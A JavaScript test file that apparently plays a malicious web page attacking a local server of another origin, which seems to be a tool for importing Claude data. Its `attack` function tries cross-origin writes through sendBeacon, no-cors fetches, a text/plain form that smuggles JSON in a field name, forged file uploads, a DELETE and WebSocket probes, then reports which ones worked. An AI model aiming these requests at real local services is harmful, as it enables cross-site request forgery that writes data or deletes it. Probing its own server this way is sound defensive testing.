// What a page can do to a server of another origin. `attack(base)` tries all of it, `look(base)` a little, and both tell what worked:
// {read: {way: text}, answered: [ways that were told of an answer]}. What was written, only the server knows.

const START = JSON.stringify({project_path: "/written/by/a/page", session_id: "written", user: "mallory"});
const CLAUDE_JSON = JSON.stringify({projects: {"/written/by/a/page": {}}});

function upload() {
  const form = new FormData();
  form.append("file", new Blob([CLAUDE_JSON], {type: "application/json"}), "claude.json");
  return form;
}

function element(name, attributes) {
  // The element once it has loaded, null if it could not.
  return new Promise((resolve) => {
    const made = document.createElement(name);
    made.onload = () => resolve(made);
    made.onerror = () => resolve(null);
    Object.assign(made, attributes);
    document.body.append(made);
  });
}

function submitted(action, enctype, fields) {
  // A form that is sent into a frame of this page; resolves when the frame has what came back.
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {action, enctype, method: "post", target: frame.name});
    form.append(...fields);
    document.body.append(form);
    frame.onload = () => resolve(frame);
    form.submit();
  });
}

function field(name, value) {
  const input = document.createElement("input");
  Object.assign(input, {name, value, type: "hidden"});
  return input;
}

function fileField() {
  const input = document.createElement("input");
  const files = new DataTransfer();
  files.items.add(new File([CLAUDE_JSON], "claude.json", {type: "application/json"}));
  Object.assign(input, {name: "file", type: "file"});
  input.files = files.files;
  return input;
}

function textOf(frame) {
  return frame.contentDocument ? frame.contentDocument.documentElement.textContent : "";
}

function opened(source) {
  return new Promise((resolve) => {
    source.onopen = source.onmessage = () => { source.close(); resolve(true); };
    source.onerror = () => { source.close(); resolve(false); };
  });
}

function asking(base, read, answered) {
  return async (way, path, options) => {
    try {
      const answer = await fetch(base + path, options);
      answered.push(way);
      const text = await answer.text();
      if (text) read[way] = text;
    } catch { /* The browser tells nothing. */ }
  };
}

async function look(base) {
  const read = {}, answered = [], asked = asking(base, read, answered);
  await asked("fetch", "/api/projects", {});
  await asked("post JSON", "/api/sessions/start", {method: "POST", headers: {"Content-Type": "application/json"}, body: START});
  await asked("upload", "/api/import/claude-data", {method: "POST", headers: {Prefer: "respond-async"}, body: upload()});
  return {read, answered};
}

async function attack(base) {
  const read = {}, answered = [], asked = asking(base, read, answered);
  const loaded = async (way, name, attributes) => { if (await element(name, attributes)) answered.push(way); };
  const json = {"Content-Type": "application/json"};

  navigator.sendBeacon(base + "/api/sessions/start", START);
  navigator.sendBeacon(base + "/api/sessions/start", new Blob([START], {type: "application/json"}));
  navigator.sendBeacon(base + "/api/import/claude-data", upload());

  await asked("fetch", "/api/projects", {});
  await asked("fetch, credentials", "/api/projects", {credentials: "include"});
  await asked("fetch, no-cors", "/api/projects", {mode: "no-cors"});
  await asked("fetch, own header", "/api/projects", {headers: {"X-Request-ID": "mine"}});
  await asked("page", "/docs", {});
  await asked("metrics", "/metrics", {});
  await asked("head", "/api/projects", {method: "HEAD"});

  await asked("post JSON", "/api/sessions/start", {method: "POST", headers: json, body: START});
  await asked("post JSON, credentials", "/api/sessions/start", {method: "POST", headers: json, body: START, credentials: "include"});
  await asked("post JSON, no-cors", "/api/sessions/start", {method: "POST", mode: "no-cors", headers: json, body: START});
  await asked("post text", "/api/sessions/start", {method: "POST", body: START});
  await asked("post text, no-cors", "/api/sessions/start", {method: "POST", mode: "no-cors", body: START});
  await asked("post without a type", "/api/sessions/start", {method: "POST", mode: "no-cors", body: new Blob([START])});
  await asked("post form", "/api/sessions/start", {method: "POST", body: new URLSearchParams(JSON.parse(START))});
  await asked("upload", "/api/import/claude-data", {method: "POST", body: upload()});
  await asked("upload, no-cors", "/api/import/claude-data", {method: "POST", mode: "no-cors", body: upload(), credentials: "include"});
  await asked("upload, kept alive", "/api/import/claude-data", {method: "POST", mode: "no-cors", body: upload(), keepalive: true});
  await asked("delete", "/api/import/jobs/018f3b1e-0000-7000-8000-000000000001", {method: "DELETE"});
  await asked("put", "/api/projects", {method: "PUT", body: "x"});

  await loaded("image", "img", {src: base + "/api/projects"});
  await loaded("script", "script", {src: base + "/api/projects"});
  await loaded("style sheet", "link", {rel: "stylesheet", href: base + "/docs"});
  const frame = await element("iframe", {src: base + "/docs"});
  const forms = [
    ["form", await submitted(base + "/api/sessions/start", "application/x-www-form-urlencoded", [field("project_path", "/written")])],
    ["form, text", await submitted(base + "/api/sessions/start", "text/plain", [field(START.slice(0, -1) + ', "x": "', '"}')])],
    ["form, upload", await submitted(base + "/api/import/claude-data", "multipart/form-data", [fileField()])],
  ];
  for (const [way, shown] of [["frame", frame], ...forms]) if (shown && textOf(shown)) read[way] = textOf(shown);

  if (await opened(new EventSource(base + "/api/import/jobs/018f3b1e-0000-7000-8000-000000000001/events"))) answered.push("events");
  if (await opened(new WebSocket(base.replace("http", "ws") + "/"))) answered.push("websocket");
  return {read, answered};
}
